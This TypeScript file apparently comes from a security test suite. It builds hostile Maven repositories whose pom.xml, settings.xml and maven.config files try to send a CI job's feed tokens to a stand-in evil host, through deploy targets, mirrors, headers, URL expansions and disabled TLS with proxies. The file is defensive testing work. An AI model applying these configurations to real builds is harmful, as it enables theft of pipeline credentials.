import type { Addresses, HostileRepository, RepositoryFiles } from "../hostile-repository";
import { lookAlikes } from "./addresses";

type Files = (at: Addresses) => RepositoryFiles;

interface PomParts {
  readonly artifact?: string;
  readonly version?: string;
  readonly packaging?: string;
  readonly more?: string;
}

function pom({ artifact = "app", version = "1.0.0", packaging = "pom", more = "" }: PomParts): string {
  return `<project><modelVersion>4.0.0</modelVersion><groupId>com.lab</groupId><artifactId>${artifact}</artifactId><version>${version}</version><packaging>${packaging}</packaging>\n${more}\n</project>\n`;
}

function repository(id: string, url: string): string {
  return `<repositories><repository><id>${id}</id><url>${url}</url></repository></repositories>\n`;
}

function distribution(id: string, url: string, element = "repository"): string {
  return `<distributionManagement><${element}><id>${id}</id><url>${url}</url></${element}></distributionManagement>\n`;
}

/** A reactor of modules, each in the folder of its name. */
function aggregator(modules: readonly string[], more: string): string {
  const list = modules.map((module) => `<module>${module}</module>`).join("");
  return pom({ artifact: "reactor", more: `${more}<modules>${list}</modules>` });
}

/** A project that says nothing itself but whose heir it is. */
function heir(artifact: string, parent: string, place: string, more = ""): string {
  return `<project><modelVersion>4.0.0</modelVersion><parent><groupId>com.lab</groupId><artifactId>${parent}</artifactId><version>1.0.0</version>${place}</parent><artifactId>${artifact}</artifactId><packaging>pom</packaging>${more}</project>`;
}

/** A bill of materials that nobody has, so that Maven asks every repository that it knows. */
const wanted = bill("com.evil", "evil");

function bill(group: string, artifact: string): string {
  return `<dependencyManagement><dependencies><dependency><groupId>${group}</groupId><artifactId>${artifact}</artifactId><version>1.0.0</version><type>pom</type><scope>import</scope></dependency></dependencies></dependencyManagement>\n`;
}

const ownFeed = (at: Addresses): string => at.feed("maven/v1");
const ownRepository = (at: Addresses): string => repository("fiber", ownFeed(at));
const ownDistribution = (at: Addresses): string => distribution("fiber", ownFeed(at));

/** The project, with what its pom.xml says and files beside it. */
function project(more: (at: Addresses) => string, files: Files = () => ({})): Files {
  return (at) => ({ "pom.xml": pom({ more: more(at) }), ...files(at) });
}

/** A settings.xml that a repository may bring. */
function settings(parts: string): string {
  return `<settings>${parts}</settings>\n`;
}

function proxies(port: string): string {
  const list = ["https", "http"].map(
    (scheme) =>
      `<proxy><id>by-${scheme}</id><active>true</active><protocol>${scheme}</protocol><host>127.0.0.1</host><port>${port}</port></proxy>`,
  );
  return `<proxies>${list.join("")}</proxies>`;
}

function mirror(id: string, url: string, of = "*"): string {
  return `<mirrors><mirror><id>${id}</id><url>${url}</url><mirrorOf>${of}</mirrorOf></mirror></mirrors>`;
}

/** `.mvn/maven.config` with an option on each line, which every version understands. */
function mavenConfig(...options: readonly string[]): RepositoryFiles {
  return { ".mvn/maven.config": `${options.join("\n")}\n` };
}

const mvn = "mvn -B -ntp";
const validate = `${mvn} validate`;
/** Every module tries, whatever became of the one before. */
const deploy = `${mvn} -fae deploy`;
const feeds = [{ task: "AuthenticateMaven@1", inputs: { feeds: "Fabrikam Fiber/fiber" } }];
const token = "${env.FEEDPASS_MAVEN_TOKEN}";

/** Ids that the job's own settings have credentials for, at an evil host. */
const ids: readonly HostileRepository[] = [
  {
    id: "maven-distribution-guessed",
    title: "modules that deploy to an evil host by the id of the job's mirror",
    files: (at) => ({
      "pom.xml": aggregator(["release", "snapshot", "heir", "profile"], ownRepository(at)),
      "release/pom.xml": pom({
        artifact: "release",
        more: distribution("feedpass-fiber", at.evil("release")),
      }),
      "snapshot/pom.xml": pom({
        artifact: "snapshot",
        version: "1.0.0-SNAPSHOT",
        more: distribution("feedpass-fiber", at.evil("snapshot"), "snapshotRepository"),
      }),
      "heir/pom.xml": heir("heir", "above", "<relativePath>../above</relativePath>"),
      "above/pom.xml": pom({ artifact: "above", more: distribution("feedpass-fiber", at.evil("heir")) }),
      "profile/pom.xml": pom({
        artifact: "profile",
        more: `<profiles><profile><id>p</id>${distribution("feedpass-fiber", at.evil("profile"))}</profile></profiles>`,
      }),
      ...mavenConfig("-Pp"),
    }),
    run: deploy,
    expect: "asked",
  },
  {
    id: "maven-distribution-input",
    title: "modules that deploy to an evil host by the ids that a feed of the input brings",
    files: (at) => {
      const guesses = ["feedpass-fiber", "feedpass-public", "feedpass-public-central"];
      const modules = guesses.map((id): [string, string] => [
        `${id}/pom.xml`,
        pom({ artifact: id, more: distribution(id, at.evil(id)) }),
      ]);
      return { "pom.xml": aggregator(guesses, ""), ...Object.fromEntries(modules) };
    },
    tasks: feeds,
    run: deploy,
    expect: "asked",
  },
  {
    id: "maven-distribution-input-feed",
    title: "a repository to deploy to of the feed's name, with a feed of the input",
    files: project((at) => distribution("fiber", at.evil("maven"))),
    tasks: feeds,
    run: deploy,
    expect: "asked",
  },
  {
    id: "maven-distribution-nested",
    title: "a project below that deploys to an evil host by the id of the feed",
    files: project(
      (at) => ownRepository(at) + ownDistribution(at),
      (at) => ({
        "nested/pom.xml": pom({ artifact: "nested", more: distribution("fiber", at.evil("maven")) }),
      }),
    ),
    run: `cd nested && ${deploy}`,
    expect: "asked",
  },
  {
    id: "maven-distribution-late",
    title: "a pom.xml that a step puts in place after the task",
    files: project(
      (at) => ownRepository(at) + ownDistribution(at),
      (at) => ({ "late.xml": pom({ more: distribution("fiber", at.evil("maven")) }) }),
    ),
    run: `mv late.xml pom.xml\n${deploy}`,
    expect: "asked",
  },
  {
    id: "maven-distribution-clash",
    title: "a repository to deploy to of the id of the feed",
    files: project((at) => ownRepository(at) + distribution("fiber", at.evil("maven"))),
    run: deploy,
    expect: "asked",
  },
  {
    id: "maven-distribution-other",
    title: "another organization to deploy to by the id of the job's mirror",
    files: project((at) => ownRepository(at) + distribution("feedpass-fiber", at.other("maven/v1"))),
    run: deploy,
    expect: "asked",
  },
  {
    id: "maven-distribution-server",
    title: "another collection to deploy to by the id of the job's mirror",
    face: "server",
    files: project((at) => ownRepository(at) + distribution("feedpass-fiber", at.other("maven/v1"))),
    run: deploy,
    expect: "asked",
  },
  {
    id: "maven-distribution-port",
    title: "another port to deploy to by the id of the job's mirror",
    face: "server",
    files: project((at) => ownRepository(at) + distribution("feedpass-fiber", at.loopback("maven"))),
    run: deploy,
    expect: "asked",
  },
  {
    id: "maven-repository-guessed",
    title: "a repository of the id of the job's mirror",
    files: project(
      (at) =>
        `<repositories><repository><id>fiber</id><url>${ownFeed(at)}</url></repository><repository><id>feedpass-fiber</id><url>${at.evil("maven")}</url></repository></repositories>${wanted}`,
    ),
    run: validate,
    expect: "asked",
  },
  {
    id: "maven-repository-nested",
    title: "a project below with a repository of the feed's id",
    files: project(ownRepository, (at) => ({
      "nested/pom.xml": pom({ artifact: "nested", more: repository("fiber", at.evil("maven")) + wanted }),
    })),
    run: `cd nested && ${validate}`,
    expect: "asked",
  },
  {
    id: "maven-plugin-repository-nested",
    title: "a project below with a plugin repository of the feed's id",
    files: project(ownRepository, (at) => ({
      "nested/pom.xml": pom({
        artifact: "nested",
        more: `<pluginRepositories><pluginRepository><id>fiber</id><url>${at.evil("maven")}</url></pluginRepository></pluginRepositories>`,
      }),
    })),
    run: `cd nested && ${mvn} com.evil:evil:1.0:go`,
    expect: "asked",
  },
];

/** Options and settings that the repository gives to Maven. */
const evilSettings = (name: string, at: Addresses): Readonly<Record<string, string>> => ({
  [name]: settings(mirror("feedpass-fiber", at.evil("maven"))),
});

const options: readonly HostileRepository[] = [
  ...[
    ["two-lines", ["-s", "evil.xml"]],
    ["equals", ["--settings=evil.xml"]],
  ].map(([slug, lines]): HostileRepository => ({
    id: `maven-settings-${String(slug)}`,
    title: `settings that maven.config names (${String(slug)}), with a mirror of the id of the job's`,
    files: project(
      (at) => ownRepository(at) + wanted,
      (at) => ({ ...mavenConfig(...(lines as string[])), ...evilSettings("evil.xml", at) }),
    ),
    run: validate,
    expect: "asked",
  })),
  {
    id: "maven-settings-public",
    title: "such settings, with a feed of the input",
    files: project(
      () => wanted,
      (at) => ({
        ...mavenConfig("-s", "evil.xml"),
        "evil.xml": settings(mirror("feedpass-public", at.evil("maven"))),
      }),
    ),
    tasks: feeds,
    run: validate,
    expect: "asked",
  },
  {
    id: "maven-settings-deployment",
    title: "settings whose mirror has the id that the project deploys by",
    files: project(
      (at) => ownRepository(at) + ownDistribution(at) + wanted,
      (at) => ({ ...mavenConfig("-s", "evil.xml"), "evil.xml": settings(mirror("fiber", at.evil("maven"))) }),
    ),
    run: validate,
    expect: "asked",
  },
  {
    id: "maven-settings-repository",
    title: "settings whose profile has a repository of the id of the job's mirror",
    files: project(
      (at) => ownRepository(at) + wanted,
      (at) => ({
        ...mavenConfig("-s", "evil.xml"),
        "evil.xml": settings(
          `<profiles><profile><id>p</id>${repository("feedpass-fiber", at.evil("maven"))}</profile></profiles><activeProfiles><activeProfile>p</activeProfile></activeProfiles>`,
        ),
      }),
    ),
    run: validate,
    expect: "asked",
  },
  {
    id: "maven-settings-server",
    title: "settings whose server has the job's variable as its password",
    files: project(
      (at) => ownRepository(at) + wanted,
      (at) => ({
        ...mavenConfig("-s", "evil.xml"),
        "evil.xml": settings(
          `<servers><server><id>evil</id><username>u</username><password>${token}</password></server></servers>${mirror("evil", at.evil("maven"))}`,
        ),
      }),
    ),
    run: validate,
    expect: "asked",
  },
  {
    id: "maven-settings-header",
    title: "settings whose server sends the job's variable as a header",
    files: project(
      (at) => ownRepository(at) + wanted,
      (at) => ({
        ...mavenConfig("-s", "evil.xml"),
        "evil.xml": settings(
          `<servers><server><id>evil</id><configuration><httpHeaders><property><name>X-Token</name><value>${token}</value></property></httpHeaders></configuration></server></servers>${mirror("evil", at.evil("maven"))}`,
        ),
      }),
    ),
    run: validate,
    expect: "asked",
  },
  {
    id: "maven-settings-address",
    title: "settings whose mirror has the job's variable in its address",
    files: project(
      (at) => ownRepository(at) + wanted,
      (at) => ({
        ...mavenConfig("-s", "evil.xml"),
        "evil.xml": settings(mirror("evil", at.evil(`${token}/maven`))),
      }),
    ),
    run: validate,
    expect: "asked",
  },
  {
    id: "maven-settings-global",
    title: "global settings that maven.config names",
    files: project(
      (at) => ownRepository(at) + wanted,
      (at) => ({
        ...mavenConfig("-gs", "evil.xml"),
        "evil.xml": settings(
          `${proxies(at.machineProxyPort)}<servers><server><id>evil</id><username>u</username><password>${token}</password></server></servers>${mirror("evil", at.evil("maven"))}`,
        ),
      }),
    ),
    run: validate,
    expect: "asked",
  },
  {
    id: "maven-settings-variable",
    title: "settings that the job's MAVEN_ARGS name",
    files: project(
      (at) => ownRepository(at) + wanted,
      (at) => evilSettings("evil.xml", at),
    ),
    variables: () => ({ MAVEN_ARGS: "-s evil.xml" }),
    run: validate,
    expect: "asked",
  },
  {
    id: "maven-settings-home",
    title: "a jvm.config that moves the home, with settings there",
    files: project(
      (at) => ownRepository(at) + wanted,
      (at) => ({ ".mvn/jvm.config": "-Duser.home=home\n", ...evilSettings("home/.m2/settings.xml", at) }),
    ),
    run: `export MAVEN_OPTS="\${MAVEN_OPTS//-Duser.home=* -XX:+/-XX:+}"\n${validate}`,
    expect: "quiet",
  },
  {
    id: "maven-settings-nested",
    title: "settings that the maven.config of a folder below names",
    files: project(ownRepository, (at) => ({
      "nested/.mvn/maven.config": "-s\nevil.xml\n",
      "nested/pom.xml": pom({ artifact: "nested", more: wanted }),
      ...evilSettings("nested/evil.xml", at),
    })),
    run: `cd nested && ${validate}`,
    expect: "asked",
  },
  {
    id: "maven-settings-late",
    title: "settings that a maven.config names which a step puts in place after the task",
    files: project(
      (at) => ownRepository(at) + wanted,
      (at) => ({ late: "-s\nevil.xml\n", ...evilSettings("evil.xml", at) }),
    ),
    run: `mkdir -p .mvn && mv late .mvn/maven.config\n${validate}`,
    expect: "asked",
  },
  {
    id: "maven-file",
    title: "a maven.config that names another pom.xml",
    files: project(
      (at) => ownRepository(at) + ownDistribution(at),
      (at) => ({
        ...mavenConfig("-f", "evil/pom.xml"),
        "evil/pom.xml": pom({ artifact: "evil", more: distribution("fiber", at.evil("maven")) }),
      }),
    ),
    run: deploy,
    expect: "asked",
  },
  {
    id: "maven-extensions",
    title: "core extensions from an evil repository",
    files: project(ownRepository, (at) => ({
      ...mavenConfig("-s", "evil.xml"),
      "evil.xml": settings(
        `<profiles><profile><id>p</id><pluginRepositories><pluginRepository><id>feedpass-fiber</id><url>${at.evil("maven")}</url></pluginRepository></pluginRepositories></profile></profiles><activeProfiles><activeProfile>p</activeProfile></activeProfiles>`,
      ),
      ".mvn/extensions.xml":
        "<extensions><extension><groupId>com.evil</groupId><artifactId>evil</artifactId><version>1</version></extension></extensions>",
    })),
    run: validate,
    expect: "asked",
  },
  {
    id: "maven-settings-security",
    title: "a maven.config that moves settings-security.xml",
    files: project(
      (at) => ownRepository(at) + wanted,
      () => ({
        ...mavenConfig("-Dsettings.security=evil.xml"),
        "evil.xml": "<settingsSecurity><relocation>other.xml</relocation></settingsSecurity>",
      }),
    ),
    run: validate,
    expect: "asked",
  },
];

/** Where Maven itself puts what a variable of the job holds. */
const expansions: readonly HostileRepository[] = [
  {
    id: "maven-expand-repository",
    title: "a repository with the job's variable in its address",
    files: project(
      (at) =>
        ownRepository(at).replace(
          "</repositories>",
          `<repository><id>evil</id><url>${at.evil(`${token}/maven`)}</url></repository></repositories>`,
        ) + wanted,
    ),
    run: validate,
    expect: "asked",
  },
  {
    id: "maven-expand-plugin-repository",
    title: "a plugin repository with the job's variable in its address",
    files: project(
      (at) =>
        `${ownRepository(at)}<pluginRepositories><pluginRepository><id>evil</id><url>${at.evil(`${token}/maven`)}</url></pluginRepository></pluginRepositories>`,
    ),
    run: `${mvn} com.evil:evil:1.0:go`,
    expect: "asked",
  },
  {
    id: "maven-expand-distribution",
    title: "a repository to deploy to with the job's variable in its address",
    files: project((at) => ownRepository(at) + distribution("evil", at.evil(`${token}/maven`))),
    run: deploy,
    expect: "quiet",
  },
  {
    id: "maven-expand-property",
    title: "a property with the job's variable in a repository's address",
    files: project(
      (at) =>
        `<properties><p>${token}</p></properties>${ownRepository(at).replace("</repositories>", `<repository><id>evil</id><url>${at.evil("${p}/maven")}</url></repository></repositories>`)}${wanted}`,
    ),
    run: validate,
    expect: "asked",
  },
  {
    id: "maven-expand-version",
    title: "a dependency whose version is the job's variable",
    files: project(
      (at) =>
        ownRepository(at).replace(
          "</repositories>",
          `<repository><id>evil</id><url>${at.evil("maven")}</url></repository></repositories>`,
        ) + wanted.replace("1.0.0", token),
    ),
    run: validate,
    expect: "quiet",
  },
  {
    id: "maven-expand-nested",
    title: "a project below with the job's variable in a repository's address",
    files: project(ownRepository, (at) => ({
      "nested/pom.xml": pom({
        artifact: "nested",
        more: repository("evil", at.evil(`${token}/maven`)) + wanted,
      }),
    })),
    run: `cd nested && ${validate}`,
    expect: "asked",
  },
  {
    id: "maven-expand-cargo",
    title: "a repository with the variable of a Cargo registry, which the job authenticated too",
    files: project(
      (at) =>
        ownRepository(at).replace(
          "</repositories>",
          `<repository><id>evil</id><url>${at.evil("${env.CARGO_REGISTRIES_FIBER_TOKEN}/maven")}</url></repository></repositories>`,
        ) + wanted,
      (at) => ({ ".cargo/config.toml": `[registries.fiber]\nindex = "sparse+${at.feed("Cargo/index/")}"\n` }),
    ),
    tasks: [{ task: "AuthenticateCargo@1" }, { task: "AuthenticateMaven@1" }],
    run: validate,
    expect: "asked",
  },
  {
    id: "maven-expand-uv",
    title: "a repository with the variable of a Python index, which the job authenticated too",
    files: project(
      (at) =>
        ownRepository(at).replace(
          "</repositories>",
          `<repository><id>evil</id><url>${at.evil("${env.UV_INDEX_FIBER_PASSWORD}/maven")}</url></repository></repositories>`,
        ) + wanted,
      (at) => ({ "uv.toml": `[[index]]\nname = "fiber"\nurl = "${at.feed("pypi/simple/")}"\n` }),
    ),
    tasks: [{ task: "AuthenticateUv@1" }, { task: "AuthenticateMaven@1" }],
    run: validate,
    expect: "asked",
  },
];

/** Addresses to deploy to, beside those that pom.xml files say. */
const alternative = (at: Addresses, path = "maven"): string => `fiber::default::${at.evil(path)}`;

function deployPlugin(parts: string): string {
  return `<plugin><artifactId>maven-deploy-plugin</artifactId>${parts}</plugin>`;
}

function configured(to: string): string {
  return `<configuration><altDeploymentRepository>${to}</altDeploymentRepository></configuration>`;
}

function deployFile(id: string, url: string): string {
  return deployPlugin(
    `<executions><execution><id>more</id><phase>validate</phase><goals><goal>deploy-file</goal></goals><configuration><file>pom.xml</file><pomFile>pom.xml</pomFile><repositoryId>${id}</repositoryId><url>${url}</url></configuration></execution></executions>`,
  );
}

function build(plugins: string): string {
  return `<build><plugins>${plugins}</plugins></build>`;
}

/** Where a pom.xml can give the deploy plugin another address than distributionManagement: by repository, by address. */
const alternativesInPom: Readonly<Record<string, (to: string, url: string) => string>> = {
  property: (to) => `<properties><altDeploymentRepository>${to}</altDeploymentRepository></properties>`,
  "profile-property": (to) =>
    `<profiles><profile><id>p</id><activation><activeByDefault>true</activeByDefault></activation><properties><altDeploymentRepository>${to}</altDeploymentRepository></properties></profile></profiles>`,
  plugin: (to) => build(deployPlugin(configured(to))),
  management: (to) =>
    `<build><pluginManagement><plugins>${deployPlugin(configured(to))}</plugins></pluginManagement></build>`,
  execution: (to) =>
    build(
      deployPlugin(
        `<executions><execution><id>default-deploy</id>${configured(to)}</execution></executions>`,
      ),
    ),
  "deploy-file": (_, url) => build(deployFile("fiber", url)),
};

/** Expressions that Maven evaluates in the configuration of any plugin, on objects that hold what it knows. */
const expressions = [
  "settings.servers[0].password",
  "session.settings.servers[0].password",
  "session.request.servers[0].password",
  "session.request.remoteRepositories[0].authentication.password",
  "session.repositorySession.authenticationSelector",
  "session.systemProperties",
  "session.executionProperties",
  "session.request.systemProperties",
  "session.projectBuildingRequest.systemProperties",
  "session.repositorySession.systemProperties",
  "session.repositorySession.configProperties",
  "project.remoteArtifactRepositories[0].authentication.password",
  "project.pluginArtifactRepositories[0].authentication.password",
  "project.remoteProjectRepositories[0].authentication",
  "project.distributionManagementArtifactRepository.authentication.password",
  "project.parent.distributionManagementArtifactRepository.authentication.password",
  "project.parent.parent.distributionManagementArtifactRepository.authentication.password",
  "project.parent.parent.remoteArtifactRepositories[0].authentication.password",
  "project.artifactId",
];

/** Puts what an expression gives, whatever it is, into the name of a file that is deployed. */
function deployNamed(expression: string, url: string): string {
  return deployPlugin(
    `<executions><execution><id>more</id><phase>validate</phase><goals><goal>deploy-file</goal></goals><configuration><file>pom.xml</file><groupId>g</groupId><artifactId>a</artifactId><version>1</version><packaging>xml</packaging><generatePom>false</generatePom><repositoryId>none</repositoryId><url>${url}</url><classifier>\${${expression}}</classifier></configuration></execution></executions>`,
  );
}

const deploying = (more: (at: Addresses) => string, files: Files = () => ({})): Files =>
  project((at) => ownRepository(at) + ownDistribution(at) + more(at), files);
const nothing = (): string => "";

const deployments: readonly HostileRepository[] = [
  ...["altDeploymentRepository", "altReleaseDeploymentRepository"].map((name): HostileRepository => ({
    id: `maven-${name.toLowerCase()}`,
    title: `a maven.config with -D${name}`,
    files: deploying(nothing, (at) => mavenConfig(`-D${name}=${alternative(at)}`)),
    run: deploy,
    expect: "asked",
  })),
  {
    id: "maven-alternative-short",
    title: "the same without a layout",
    files: deploying(nothing, (at) => mavenConfig(`-DaltDeploymentRepository=fiber::${at.evil("maven")}`)),
    run: deploy,
    expect: "asked",
  },
  {
    id: "maven-alternative-guessed",
    title: "the same with the id of the job's mirror",
    files: project(ownRepository, (at) =>
      mavenConfig(`-DaltDeploymentRepository=feedpass-fiber::default::${at.evil("maven")}`),
    ),
    run: deploy,
    expect: "asked",
  },
  {
    id: "maven-alternative-snapshot",
    title: "the same for snapshots",
    files: (at) => ({
      "pom.xml": pom({ version: "1.0.0-SNAPSHOT", more: ownRepository(at) + ownDistribution(at) }),
      ...mavenConfig(`-DaltSnapshotDeploymentRepository=${alternative(at)}`),
    }),
    run: deploy,
    expect: "asked",
  },
  {
    id: "maven-alternative-jvm",
    title: "a jvm.config with -DaltDeploymentRepository",
    files: deploying(nothing, (at) => ({
      ".mvn/jvm.config": `-DaltDeploymentRepository=${alternative(at)}\n`,
    })),
    run: deploy,
    expect: "asked",
  },
  {
    id: "maven-alternative-pom",
    title: "modules whose own pom.xml tells the deploy plugin another address, by the feed's id",
    files: (at) => {
      const modules = Object.entries(alternativesInPom).map(([module, more]): [string, string] => [
        `${module}/pom.xml`,
        heir(module, "reactor", "", more(alternative(at, module), at.evil(module))),
      ]);
      return {
        "pom.xml": aggregator(Object.keys(alternativesInPom), ownRepository(at) + ownDistribution(at)),
        ...Object.fromEntries(modules),
      };
    },
    run: deploy,
    expect: "asked",
  },
  {
    id: "maven-alternative-settings",
    title: "a property in settings that maven.config names",
    files: deploying(nothing, (at) => ({
      ...mavenConfig("-s", "evil.xml"),
      "evil.xml": settings(
        `<profiles><profile><id>p</id><properties><altDeploymentRepository>${alternative(at)}</altDeploymentRepository></properties></profile></profiles><activeProfiles><activeProfile>p</activeProfile></activeProfiles>`,
      ),
    })),
    run: deploy,
    expect: "asked",
  },
  {
    id: "maven-alternative-variable",
    title: "MAVEN_ARGS of the job with -DaltDeploymentRepository",
    files: deploying(nothing),
    variables: (at) => ({ MAVEN_ARGS: `-DaltDeploymentRepository=${alternative(at)}` }),
    run: deploy,
    expect: "asked",
  },
  {
    id: "maven-deploy-file-config",
    title: "a maven.config with the address of deploy-file",
    files: deploying(nothing, (at) => mavenConfig("-DrepositoryId=fiber", `-Durl=${at.evil("maven")}`)),
    run: `${mvn} deploy:deploy-file -Dfile=pom.xml -DpomFile=pom.xml`,
    expect: "asked",
  },
  {
    id: "maven-address-property",
    title: "a property for the address, which maven.config redefines",
    files: project(
      (at) =>
        `${ownRepository(at)}<properties><to>${ownFeed(at)}</to></properties>${distribution("fiber", "${to}")}`,
      (at) => mavenConfig(`-Dto=${at.evil("maven")}`),
    ),
    run: deploy,
    expect: "asked",
  },
  {
    id: "maven-address-jvm",
    title: "a property for the address, which jvm.config redefines",
    files: project(
      (at) =>
        `${ownRepository(at)}<properties><to>${ownFeed(at)}</to></properties>${distribution("fiber", "${to}")}`,
      (at) => ({ ".mvn/jvm.config": `-Dto=${at.evil("maven")}\n` }),
    ),
    run: deploy,
    expect: "asked",
  },
  {
    id: "maven-address-settings",
    title: "a property for the address, which settings redefine that maven.config names",
    files: project(
      (at) =>
        `${ownRepository(at)}<properties><to>${ownFeed(at)}</to></properties>${distribution("fiber", "${to}")}`,
      (at) => ({
        ...mavenConfig("-s", "evil.xml"),
        "evil.xml": settings(
          `<profiles><profile><id>p</id><properties><to>${at.evil("maven")}</to></properties></profile></profiles><activeProfiles><activeProfile>p</activeProfile></activeProfiles>`,
        ),
      }),
    ),
    run: deploy,
    expect: "asked",
  },
  {
    id: "maven-address-part",
    title: "a property for a part of the host, which maven.config redefines",
    files: project(
      (at) =>
        `${ownRepository(at)}<properties><to>pkgs.dev.azure.com</to></properties>${distribution("fiber", ownFeed(at).replace("pkgs.dev.azure.com", "${to}"))}`,
      () => mavenConfig("-Dto=evil.example"),
    ),
    run: deploy,
    expect: "asked",
  },
  {
    id: "maven-address-basedir",
    title: "an address with ${project.artifactId}, which a module fills otherwise",
    files: (at) => ({
      "pom.xml": pom({
        artifact: "fabrikam",
        more:
          ownRepository(at) +
          distribution("fiber", ownFeed(at).replace("/fabrikam/", "/${project.artifactId}/")) +
          "<modules><module>m</module></modules>",
      }),
      "m/pom.xml": `<project><modelVersion>4.0.0</modelVersion><parent><groupId>com.lab</groupId><artifactId>fabrikam</artifactId><version>1.0.0</version></parent><artifactId>contoso</artifactId><packaging>pom</packaging></project>`,
    }),
    run: deploy,
    expect: "asked",
  },
];

/** Modules as a pom.xml may write them, and the file that Maven then reads. */
const missedModules: readonly (readonly [string, string])[] = [
  ["folder.xml", "folder.xml/pom.xml"],
  ["file.pom", "file.pom"],
  ["any/build.txt", "any/build.txt"],
  ["back\\slash", "back/slash/pom.xml"],
  ["${m}", "property/pom.xml"],
  ["half-${h}", "half-property/pom.xml"],
  ["${c}", "config/pom.xml"],
];

const seenModules: readonly (readonly [string, string])[] = [
  ["plain", "plain/pom.xml"],
  ["a/../dots", "dots/pom.xml"],
  ["slash/", "slash/pom.xml"],
  ["  spaces  ", "spaces/pom.xml"],
];

function withModules(modules: readonly (readonly [string, string])[]): Files {
  return (at) => {
    const properties = "<properties><m>property</m><h>property</h></properties>";
    const poms = modules.map(([, path], number): [string, string] => [
      path,
      pom({ artifact: `module-${number}`, more: distribution("fiber", at.evil(path)) }),
    ]);
    return {
      "pom.xml": aggregator(
        modules.map(([module]) => module),
        ownRepository(at) + ownDistribution(at) + properties,
      ),
      "a/keep": "",
      ...mavenConfig("-Dc=config"),
      ...Object.fromEntries(poms),
    };
  };
}

const reactor: readonly HostileRepository[] = [
  {
    id: "maven-modules-missed",
    title: "modules that a reading of the reactor may miss, and that deploy to an evil host by the feed's id",
    files: withModules(missedModules),
    run: deploy,
    expect: "asked",
  },
  {
    id: "maven-modules-seen",
    title: "modules that deploy to an evil host by the feed's id",
    files: withModules(seenModules),
    run: deploy,
    expect: "asked",
  },
  {
    id: "maven-expressions",
    title: "modules that give a plugin what Maven's own objects hold as the name of a file",
    files: (at) => {
      const modules = expressions.map((expression, number): [string, string] => [
        `m${number}/pom.xml`,
        heir(`m${number}`, "reactor", "", build(deployNamed(expression, at.evil(`m${number}`)))),
      ]);
      const list = expressions.map((_, number) => `<module>m${number}</module>`).join("");
      return {
        "pom.xml": heir(
          "reactor",
          "beyond",
          "<relativePath>beyond.xml</relativePath>",
          `${ownRepository(at)}${ownDistribution(at)}<modules>${list}</modules>`,
        ),
        "beyond.xml": pom({ artifact: "beyond", more: ownRepository(at) + ownDistribution(at) }),
        ...Object.fromEntries(modules),
      };
    },
    run: `${mvn} -fae validate`,
    expect: "asked",
  },
  {
    id: "maven-module-profile",
    title: "a module of a profile that maven.config activates",
    files: deploying(
      () => "<profiles><profile><id>p</id><modules><module>evil</module></modules></profile></profiles>",
      (at) => ({
        "evil/pom.xml": pom({ artifact: "evil", more: distribution("fiber", at.evil("maven")) }),
        ...mavenConfig("-Pp"),
      }),
    ),
    run: deploy,
    expect: "asked",
  },
  {
    id: "maven-parent-remote",
    title: "a module whose parent is in the feed and deploys to an evil host by the feed's id",
    files: deploying(
      () => "<modules><module>m</module></modules>",
      (at) => ({
        "parent/pom.xml": pom({ artifact: "remote-parent", more: distribution("fiber", at.evil("maven")) }),
        "m/pom.xml": `<project><modelVersion>4.0.0</modelVersion><parent><groupId>com.lab</groupId><artifactId>remote-parent</artifactId><version>1.0.0</version><relativePath/></parent><artifactId>m</artifactId><packaging>pom</packaging>${ownRepository(at)}</project>`,
      }),
    ),
    run: (at) =>
      `(cd parent && ${mvn} install -DaltDeploymentRepository=fiber::default::${ownFeed(at)})\n${deploy}`,
    expect: "asked",
  },
];

/** TLS and proxies of the repository's choice. */
const proxySettings = (at: Addresses): string => settings(proxies(at.proxyPort));
const insecure = [
  "-Dmaven.wagon.http.ssl.insecure=true",
  "-Dmaven.wagon.http.ssl.allowall=true",
  "-Dmaven.wagon.http.ssl.ignore.validity.dates=true",
  "-Daether.connector.https.securityMode=insecure",
];
const fromFeed = bill("com.fabrikam", "parent");
/** The machine's trust store, which MAVEN_OPTS names after jvm.config, is for the sandbox alone. */
const withoutStore = 'export MAVEN_OPTS="${MAVEN_OPTS%% -Djavax*}${MAVEN_OPTS##*changeit}"\n';

const tls: readonly HostileRepository[] = [
  {
    id: "maven-insecure-config",
    title: "TLS switched off in maven.config, and a proxy in settings that it names",
    files: project(
      (at) => ownRepository(at) + fromFeed,
      (at) => ({ ...mavenConfig("-s", "evil.xml", ...insecure), "evil.xml": proxySettings(at) }),
    ),
    run: validate,
    expect: "asked",
  },
  {
    id: "maven-insecure-jvm",
    title: "TLS switched off in jvm.config, and a proxy in settings",
    files: project(
      (at) => ownRepository(at) + fromFeed,
      (at) => ({
        ...mavenConfig("-s", "evil.xml"),
        ".mvn/jvm.config": `${insecure.join("\n")}\n`,
        "evil.xml": proxySettings(at),
      }),
    ),
    run: validate,
    expect: "asked",
  },
  {
    id: "maven-insecure-settings",
    title: "TLS switched off in the properties of settings",
    files: project(
      (at) => ownRepository(at) + fromFeed,
      (at) => ({
        ...mavenConfig("-s", "evil.xml"),
        "evil.xml": proxySettings(at).replace(
          "</settings>",
          "<profiles><profile><id>p</id><properties><aether.connector.https.securityMode>insecure</aether.connector.https.securityMode></properties></profile></profiles><activeProfiles><activeProfile>p</activeProfile></activeProfiles></settings>",
        ),
      }),
    ),
    run: validate,
    expect: "asked",
  },
  {
    id: "maven-insecure-alone",
    title: "TLS switched off in maven.config, and no proxy",
    files: project(
      (at) => ownRepository(at) + fromFeed,
      () => mavenConfig(...insecure),
    ),
    run: validate,
    expect: "refused",
  },
  {
    id: "maven-insecure-late",
    title: "settings with a proxy that switch TLS off, which a step puts in place after the task",
    files: project(
      (at) => ownRepository(at) + fromFeed,
      (at) => ({
        late: ["-s", "evil.xml", ...insecure].join("\n"),
        "evil.xml": proxySettings(at),
      }),
    ),
    run: `mkdir -p .mvn && mv late .mvn/maven.config\n${validate}`,
    expect: "asked",
  },
  {
    id: "maven-insecure-late-settings",
    title: "the same in a property of settings",
    files: project(
      (at) => ownRepository(at) + fromFeed,
      (at) => ({
        late: "-s\nevil.xml\n",
        "evil.xml": proxySettings(at).replace(
          "</settings>",
          "<profiles><profile><id>p</id><properties><aether.connector.https.securityMode>insecure</aether.connector.https.securityMode></properties></profile></profiles><activeProfiles><activeProfile>p</activeProfile></activeProfiles></settings>",
        ),
      }),
    ),
    run: `mkdir -p .mvn && mv late .mvn/maven.config\n${validate}`,
    expect: "asked",
  },
  {
    id: "maven-store-jvm",
    title: "a trust store in jvm.config, and a proxy in settings",
    files: project(
      (at) => ownRepository(at) + fromFeed,
      (at) => ({
